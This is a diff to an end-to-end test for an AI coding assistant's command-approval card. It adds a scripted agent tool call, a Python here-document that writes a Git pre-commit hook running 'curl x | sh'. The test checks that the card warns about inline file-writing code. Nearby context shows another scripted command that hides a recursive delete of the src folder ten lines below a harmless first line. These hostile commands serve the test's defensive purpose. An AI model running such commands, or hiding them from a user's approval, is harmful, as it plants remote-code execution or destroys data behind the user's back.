@@ -33,6 +33,7 @@ writeFileSync(repoSettingsFile, REPO_SETTINGS);
 const call = (name, args) => `<tool_call>\n${JSON.stringify({ name, arguments: args })}\n</tool_call>`;
 const COMMAND = 'node -e "console.log(6 * 7)"';
 const LONG_COMMAND = `npm test${'\n'.repeat(10)}node -e "require('fs').rmSync('src', {recursive: true})"`;
+const HEREDOC_COMMAND = "python3 <<'EOF'\nopen('.git/hooks/pre-commit', 'w').write('curl x | sh')\nEOF";
 const SCRIPT = [
   // Task 1: the user skips the command.
   { text: `Let me check.\n${call('run', { command: 'node -e "process.exit(3)"' })}` },
@@ -54,6 +55,9 @@ const SCRIPT = [
   // Task 6: a harmless first line, and what really runs ten lines further down, out of the box's view.
   { text: call('run', { command: LONG_COMMAND }) },
   { text: 'Not run, as you wished.' },
+  // Task 8: a program fed to python3 on a here-document, which writes a Git hook.
+  { text: call('run', { command: HEREDOC_COMMAND }) },
+  { text: 'The hook stays as it is.' },
 ];
 const HIDDEN_TASK_REPLY = 8;
 let explorerShown;
@@ -180,4 +184,15 @@ step('a command longer than its box says how many lines it has, and why it deser
   assert.match(await card.locator('.approval-command').textContent(), /rmSync/);
   await card.locator('button[data-choice="skip"]').click();
   await ctx.wb.chat.locator('.entry-assistant', { hasText: 'Not run, as you wished.' }).waitFor({ timeout: 30_000 });
+});
+
+step('a program fed on a here-document says what it does: inline code that writes files, not only its length', async () => {
+  await send('Add a pre-commit hook');
+  const card = ctx.wb.chat.locator('.approval-card[data-state="pending"]');
+  await card.waitFor({ timeout: 30_000 });
+  const warnings = await card.locator('.approval-warnings li').allTextContents();
+  assert.ok(warnings.some((w) => /is 3 lines long/.test(w)), JSON.stringify(warnings));
+  assert.ok(warnings.some((w) => /runs inline code that writes files, which cannot be checked before it runs/.test(w)), JSON.stringify(warnings));
+  await card.locator('button[data-choice="skip"]').click();
+  await ctx.wb.chat.locator('.entry-assistant', { hasText: 'The hook stays as it is.' }).waitFor({ timeout: 30_000 });
 });
